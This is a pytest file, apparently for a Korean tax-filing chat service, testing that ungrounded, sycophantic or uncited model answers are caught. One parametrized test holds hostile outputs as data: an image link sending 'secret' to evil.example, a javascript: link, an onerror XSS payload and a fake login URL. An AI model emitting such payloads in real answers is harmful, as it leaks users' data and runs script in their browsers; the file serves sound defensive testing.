"""A model that agrees, invents or denies gets nothing past the service, in JSON and in the stream alike."""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from tests.contract.wire import parse_frames
from tests.e2e.test_model_path import GOOD, VAT, script
from tests.support.scripted_openai import ScriptedOpenAI

CLAIMED = "부가가치세 확정신고는 26일까지라던데 맞나요?"


def ask(service: httpx.Client, message: str) -> dict[str, Any]:
    answer: dict[str, Any] = service.post("/api/chat", json={"message": message}).json()
    return answer


@pytest.mark.finding("H2")
def test_an_agreeing_model_does_not_pass(model_service: httpx.Client, model_server: ScriptedOpenAI) -> None:
    model_server.reset(script(generation="네, 부가가치세 확정신고는 26일까지 하면 됩니다. [1]"))
    answer = ask(model_service, CLAIMED)
    assert "26일까지 하면" not in answer["content"]
    assert answer["content"] == "말씀하신 26일에 대해서는 제공된 문서에서 확인할 수 없습니다."
    assert not answer["evaluation"]["passed"]
    assert answer["retry_count"] == 1
    assert [sentence["verdict"] for sentence in answer["evaluation"]["grounding"]["sentences"]] == ["user_stated"]


@pytest.mark.finding("H2")
def test_a_figure_of_the_history_is_no_source(model_service: httpx.Client, model_server: ScriptedOpenAI) -> None:
    model_server.reset(script(generation=f"{GOOD} 무신고 가산세는 37퍼센트입니다. [1]"))
    turns = [{"role": "user", "content": "가산세가 37퍼센트라던데요"}, {"role": "assistant", "content": "네."}]
    answer = model_service.post("/api/chat", json={"message": VAT, "history": turns}).json()
    assert answer["content"].startswith(GOOD)
    assert "가산세는 37" not in answer["content"]


@pytest.mark.finding("M2", "M4")
@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/p.png?q=secret)",
        "[여기](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "https://evil.example/login에서 신고합니다. [1]",
        "과태료는 스무엿새 안에 ㉖퍼센트입니다. [1]",
        "신고 기한은 99일입니다. [999]",
    ],
)
def test_only_what_is_foreign_leaves_an_admission(
    model_service: httpx.Client, model_server: ScriptedOpenAI, hostile: str
) -> None:
    model_server.reset(script(generation=hostile))
    answer = ask(model_service, VAT)
    assert answer["content"].startswith("제공된 문서에서")
    assert "확인할 수 없습니다" in answer["content"]


def test_the_stream_checks_as_the_whole_answer_is_checked(
    model_service: httpx.Client, model_server: ScriptedOpenAI
) -> None:
    written = f"안녕하세요. {GOOD} 26일이 아니라 25일입니다. [1] 홈택스로 신고합니다.\n- 직원이 3명이라고 하셨습니다.\n자세한 내용은 세무서에 문의하세요."
    model_server.reset(script(generation=written))
    message = f"{CLAIMED} 직원은 3명입니다."
    answer = ask(model_service, message)
    frames = parse_frames(model_service.post("/api/chat/stream", json={"message": message}).text)
    checks = [frame.data.check.model_dump(mode="json") for frame in frames if frame.event == "check"]
    assert answer["content"] == written
    assert checks == answer["evaluation"]["grounding"]["sentences"]
    assert [check["verdict"] for check in checks] == [
        "supported",
        "supported",
        "user_stated",
        "uncited",
        "user_stated",
        "supported",
    ]


@pytest.mark.finding("M4")
def test_a_kind_judge_does_not_pass_what_cites_nothing(
    model_service: httpx.Client, model_server: ScriptedOpenAI
) -> None:
    model_server.reset(script(generation="부가가치세는 홈택스에서 전자신고합니다."))
    evaluation = ask(model_service, VAT)["evaluation"]
    assert [sentence["verdict"] for sentence in evaluation["grounding"]["sentences"]] == ["uncited"]
    assert (evaluation["scores"]["citation"], evaluation["passed"]) == (0, False)
